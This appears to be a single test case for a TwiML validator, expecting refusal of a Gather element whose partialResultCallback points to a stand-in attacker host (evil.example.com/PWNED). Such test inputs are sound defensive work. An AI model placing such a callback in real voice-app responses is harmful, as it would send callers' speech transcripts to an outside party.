# class: partialResultCallback of Gather to a foreign host; expected: refused twiml
response = '<Response><Gather partialResultCallback="https://evil.example.com/PWNED"></Gather></Response>'
